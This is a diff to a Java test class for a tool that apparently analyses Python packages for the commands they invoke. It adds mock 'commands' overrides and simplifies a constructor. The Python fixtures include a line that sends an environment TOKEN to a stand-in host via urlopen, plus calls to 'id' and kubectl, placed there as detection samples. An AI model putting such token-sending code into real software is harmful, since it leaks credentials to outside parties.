@@ -62,9 +62,11 @@ class AnalysisWorkerTest {
             """
             import os, subprocess, sys
             from . import größe
+            from tool.cli import main as tool
             def main():
                 größe.send('\\x00 \\N{SNOWMAN} 名前')
                 subprocess.run(['id'])
+                tool()
                 os.execv('/usr/bin/kubectl', sys.argv)
             """));
     files.put("acme", text("/opt/env/lib/acme/__init__.py", ""));
@@ -78,7 +80,7 @@ class AnalysisWorkerTest {
              urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])
             """));
     Modules modules = modules(files);
-    Subject subject = new Subject(List.of("kubectl"), "acme", Map.of("x.y", Set.of("x", "z")));
+    Subject subject = new Subject(List.of("kubectl"), "acme");
     Program entry = new Program.Entry(new EntryPoint("acme.cli", "main"), FILE);
 
     Behaviour answered = real.python("1", subject, entry, modules);
@@ -207,6 +209,11 @@ class AnalysisWorkerTest {
           public ModuleSource data(String nearModule, String relative) {
             return new ModuleSource.Missing();
           }
+
+          @Override
+          public Map<String, Set<String>> commands(String module) {
+            return Map.of();
+          }
         };
     Program script = new Program.Script(FILE, "import acme\nimport os\nos.system('id')\n");
     Subject subject = subject("kubectl");
@@ -228,6 +235,11 @@ class AnalysisWorkerTest {
 
           @Override
           public ModuleSource data(String nearModule, String relative) {
+            throw new IllegalStateException("broken");
+          }
+
+          @Override
+          public Map<String, Set<String>> commands(String module) {
             throw new IllegalStateException("broken");
           }
         };
@@ -319,7 +331,7 @@ class AnalysisWorkerTest {
   }
 
   private static Subject subject(String command) {
-    return new Subject(List.of(command), "acme", Map.of());
+    return new Subject(List.of(command), "acme");
   }
 
   private static ModuleSource text(String file, String source) {
@@ -336,6 +348,11 @@ class AnalysisWorkerTest {
       @Override
       public ModuleSource data(String nearModule, String relative) {
         return files.getOrDefault(nearModule + "/" + relative, new ModuleSource.Missing());
+      }
+
+      @Override
+      public Map<String, Set<String>> commands(String module) {
+        return module.startsWith("tool") ? Map.of("tool.cli", Set.of("kubectl", "k")) : Map.of();
       }
     };
   }
